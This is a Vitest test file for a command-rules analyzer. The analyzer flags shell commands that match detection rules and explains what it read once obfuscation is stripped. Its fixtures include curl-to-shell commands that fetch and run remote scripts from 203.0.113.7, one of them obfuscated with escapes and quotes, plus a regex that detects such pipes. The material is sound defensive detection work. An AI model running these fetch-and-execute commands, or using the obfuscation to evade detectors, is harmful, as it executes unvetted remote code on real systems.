// The command-rules analyzer: one flag per matching rule and command, explanations that say what
// was read once obfuscation is removed, and the cap of flags per rule (a rule matching everything
// must not fill the catalog), with the rest counted.
import { describe, expect, it } from 'vitest';
import { UTC } from '../../electron/core/search/time-zone.js';
import type { CommandRow } from '../../electron/services/analyze/case-data.js';
import { CommandRulesAnalyzer, MAX_FLAGS_PER_RULE } from '../../electron/services/analyze/command-rules.js';
import { parseRulesText } from '../../electron/services/analyze/rules-source.js';

const rules = parseRulesText({ name: 'r.yaml', text: `trailview-rules: 1
rules:
  - {id: t.curl-sh, title: Curl to shell, severity: high, why: code runs unseen, match: {program|endswith: /curl, command|re: '\\|\\s*(\\S*/)?(ba)?sh\\b'}}
  - {id: t.any-echo, title: Echo, severity: info, why: a test of the cap, match: {program: echo}}
` }).rules;

const row = (id: number, text: string): CommandRow => ({ id, sessionId: 3, tsUs: Date.UTC(2024, 10, 21, 3, 9, 7) * 1000, seq: 100 + id, text, user: 'mallory', host: 'web-1', cwd: null });

describe('CommandRulesAnalyzer', () => {
  it('explains a match, and what it read through obfuscation', () => {
    const a = new CommandRulesAnalyzer(rules, UTC);
    a.visit(row(1, 'curl -fsSL http://203.0.113.7/x.sh | sh'));
    a.visit(row(2, "c\\url -s http://203.0.113.7/y | /bin/ba''sh"));
    a.visit(row(3, 'curl -s https://api/health | jq .'));
    expect(a.flags.map((f) => [f.ruleId, f.seqs, f.sessionId])).toEqual([['t.curl-sh', [101], 3], ['t.curl-sh', [102], 3]]);
    expect(a.flags[0]?.explanation).toBe('mallory on web-1 ran "curl -fsSL http://203.0.113.7/x.sh | sh" at 2024-11-21 03:09:07 UTC: it matches "Curl to shell": code runs unseen.');
    expect(a.flags[1]?.explanation).toBe('mallory on web-1 ran "c\\url -s http://203.0.113.7/y | /bin/ba\'\'sh" at 2024-11-21 03:09:07 UTC (read as "curl -s http://203.0.113.7/y | /bin/bash" once quotes, escapes and $IFS are removed): it matches "Curl to shell": code runs unseen.');
    expect(a.flags[1]?.details).toMatchObject({ command: "c\\url -s http://203.0.113.7/y | /bin/ba''sh", normalised: 'curl -s http://203.0.113.7/y | /bin/bash' });
  });

  it(`keeps at most ${MAX_FLAGS_PER_RULE} flags per rule and counts the rest`, () => {
    const a = new CommandRulesAnalyzer(rules, UTC);
    for (let i = 0; i < MAX_FLAGS_PER_RULE + 25; i++) a.visit(row(i, `echo ${i}`));
    a.visit(row(99_999, 'curl x | sh'));
    expect(a.flags.filter((f) => f.ruleId === 't.any-echo')).toHaveLength(MAX_FLAGS_PER_RULE);
    expect(a.flags.filter((f) => f.ruleId === 't.curl-sh')).toHaveLength(1);
    expect(Object.fromEntries(a.omitted)).toEqual({ 't.any-echo': 25 });
  });
});
